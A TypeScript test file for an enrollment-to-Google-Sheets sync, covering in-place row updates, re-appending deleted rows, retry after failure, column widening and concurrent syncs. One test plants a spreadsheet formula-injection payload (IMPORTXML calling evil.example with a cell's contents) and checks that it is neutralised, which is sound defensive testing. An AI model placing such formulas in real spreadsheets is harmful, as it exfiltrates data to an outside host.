// The sheet sync rewrites an enrollment's existing row (found by its ID in column A) when its cells changed: its
// place, payment or processing. Real Sheets client against the local fake; nothing is sent when nothing changed.
import { eq } from "drizzle-orm";
import { beforeEach, describe, expect, it } from "vitest";
import { coursePayments, enrollments, seats } from "../../server/db/schema";
import { syncEnrollmentsToSheets } from "../../server/enrollments/sheets-sync";
import { createSheetsAdapter, SheetsError } from "../../server/integrations/google-sheets";
import { CSV_COLUMNS, EXPORT_COLUMNS } from "../../shared/admin";
import { insertEnrollment } from "../helpers/admin-session";
import { withFakeSheets } from "../helpers/sheets";
import { withTestApp } from "../helpers/test-app";
import * as trainingRows from "../helpers/training-rows";

describe("the sheet sync updating rows", () => {
  const t = withTestApp();
  const sheets = withFakeSheets("unused");
  let spreadsheetId = "";
  let sheetCount = 0;
  let intakeId = 0;

  beforeEach(async () => {
    const db = t.database.db;
    await db.delete(coursePayments);
    await db.delete(seats);
    await db.delete(enrollments);
    intakeId = await trainingRows.insertJanuaryIntake(db);
    sheetCount += 1;
    spreadsheetId = `update-${sheetCount}`;
    sheets.fake.addSpreadsheet(spreadsheetId);
    sheets.fake.requests.length = 0;
  });

  const sync = () =>
    syncEnrollmentsToSheets(
      t.database.db,
      createSheetsAdapter({
        serviceAccount: JSON.stringify(sheets.account),
        spreadsheetId,
        rootUrl: sheets.fake.url,
      }),
    );
  const sheet = () => sheets.fake.rows(spreadsheetId);
  const calls = () => sheets.fake.requests.map((request) => request.call);
  const training = (row: string[] | undefined) => row?.slice(CSV_COLUMNS.length);

  /** Three applications: a held seat, "Any upcoming date", a waitlisted one; synced once. Answers the held seat. */
  async function threeSynced() {
    const db = t.database.db;
    const held = await insertEnrollment(db, { firstName: "Litia", email: "litia@example.fj", intakeId });
    await insertEnrollment(db, { firstName: "Anyday", email: "anyday@example.fj" });
    const waiting = await insertEnrollment(db, { firstName: "Jone", email: "jone@example.fj", intakeId });
    const seatId = await trainingRows.insertPlace(db, {
      intakeId,
      enrollmentId: held,
      email: "litia@example.fj",
      state: "held",
    });
    await trainingRows.insertPlace(db, {
      intakeId,
      enrollmentId: waiting,
      email: "jone@example.fj",
      state: "waitlisted",
    });
    await expect(sync()).resolves.toEqual({ synced: 3 });
    sheets.fake.requests.length = 0;
    return { held, seatId };
  }

  it("rewrites the changed row in place, leaves the others, and sends nothing when nothing changed", async () => {
    const { held, seatId } = await threeSynced();
    const before = sheet();
    expect(before[0]).toEqual([...EXPORT_COLUMNS]);
    expect(training(before[1])).toEqual([
      trainingRows.JANUARY_SUVA,
      "Held",
      "FJD 1,500.00",
      "FJD 0.00",
      "FJD 0.00",
    ]);

    await trainingRows.setPlaceState(t.database.db, seatId, "offered", new Date("2027-01-05T00:00:00Z"));
    await expect(sync()).resolves.toEqual({ synced: 1 });
    expect(calls()).toEqual(["get", "batchUpdate"]);
    const update = sheets.fake.requests[1]?.body as { valueInputOption: string; data: { range: string }[] };
    expect(update.valueInputOption).toBe("RAW");
    expect(update.data.map((entry) => entry.range)).toEqual(["'Enrollments'!A1:R1", "'Enrollments'!A2:R2"]);
    const after = sheet();
    expect(after).toHaveLength(before.length);
    expect(after[1]?.[0]).toBe(String(held));
    expect(training(after[1])).toEqual([
      trainingRows.JANUARY_SUVA,
      "Offered until 5 January 2027",
      "FJD 1,500.00",
      "FJD 0.00",
      "FJD 1,500.00",
    ]);
    expect(after[1]?.slice(0, CSV_COLUMNS.length)).toEqual(before[1]?.slice(0, CSV_COLUMNS.length));
    expect([after[0], after[2], after[3]]).toEqual([before[0], before[2], before[3]]);

    sheets.fake.requests.length = 0;
    await expect(sync()).resolves.toEqual({ synced: 0 });
    expect(sheets.fake.requests).toEqual([]);
  });

  it("rewrites the row when a payment or the processing changes, keeping formula text neutralised", async () => {
    const { held, seatId } = await threeSynced();
    const db = t.database.db;
    await trainingRows.setPlaceState(db, seatId, "confirmed");
    await trainingRows.insertPaidPayment(db, { seatId, enrollmentId: held, intakeId, amountCents: 50_000 });
    await db
      .update(enrollments)
      .set({ isProcessed: true, processingNotes: '=IMPORTXML(CONCAT("http://evil.example/?",B2),"//a")' })
      .where(eq(enrollments.id, held));
    await expect(sync()).resolves.toEqual({ synced: 1 });
    expect(calls()).toEqual(["get", "batchUpdate"]);
    const row = sheet()[1];
    expect(row?.slice(11)).toEqual([
      "Yes",
      '\'=IMPORTXML(CONCAT("http://evil.example/?",B2),"//a")',
      trainingRows.JANUARY_SUVA,
      "Confirmed",
      "FJD 1,500.00",
      "FJD 500.00",
      "FJD 1,000.00",
    ]);
    expect(sheet()).toHaveLength(4);
  });

  it("appends a row staff deleted from the sheet, and an unsynced one, without duplicating the rest", async () => {
    const { held, seatId } = await threeSynced();
    const [header, , ...rest] = sheet();
    sheets.fake.setRows(spreadsheetId, [header ?? [], ...rest]);
    await trainingRows.setPlaceState(t.database.db, seatId, "declined");
    const late = await insertEnrollment(t.database.db, { firstName: "Late", email: "late@example.fj" });
    await expect(sync()).resolves.toEqual({ synced: 2 });
    const ids = sheet().map((row) => row[0]);
    expect(ids).toHaveLength(5);
    expect(new Set(ids).size).toBe(5);
    expect(ids.slice(-2).sort()).toEqual([String(held), String(late)].sort());
    expect(training(sheet().find((row) => row[0] === String(held)))?.[1]).toBe("Declined");
  });

  it("keeps the hash unstored when Google refuses the update, so the retry rewrites the row once", async () => {
    const { seatId } = await threeSynced();
    await trainingRows.setPlaceState(t.database.db, seatId, "cancelled");
    sheets.fake.failUpdates(1, "500");
    const failure = await sync().catch((error: unknown) => error);
    expect(failure).toBeInstanceOf(SheetsError);
    expect(training(sheet()[1])?.[1]).toBe("Held");
    await expect(sync()).resolves.toEqual({ synced: 1 });
    expect(training(sheet()[1])?.[1]).toBe("Cancelled");
    expect(sheet()).toHaveLength(4);
    await expect(sync()).resolves.toEqual({ synced: 0 });
  });

  it("widens a sheet begun before the training columns: the header and each row synced without a hash", async () => {
    await threeSynced();
    const narrow = sheet().map((row) => row.slice(0, CSV_COLUMNS.length));
    sheets.fake.setRows(spreadsheetId, narrow);
    await t.database.db.update(enrollments).set({ sheetsRowHash: null });
    await expect(sync()).resolves.toEqual({ synced: 3 });
    expect(calls()).toEqual(["get", "batchUpdate"]);
    const rows = sheet();
    expect(rows[0]).toEqual([...EXPORT_COLUMNS]);
    expect(rows.map((row) => row.length)).toEqual([18, 18, 18, 18]);
    expect(training(rows[2])).toEqual(["Any upcoming date", "", "", "", ""]);
  });

  it("rewrites each changed row once when two syncs run at the same time", async () => {
    const { seatId } = await threeSynced();
    await trainingRows.setPlaceState(t.database.db, seatId, "confirmed");
    const results = await Promise.all([sync(), sync()]);
    expect(results.map((result) => result.synced).sort()).toEqual([0, 1]);
    expect(calls().filter((call) => call === "batchUpdate")).toHaveLength(1);
    expect(sheet()).toHaveLength(4);
  });
});
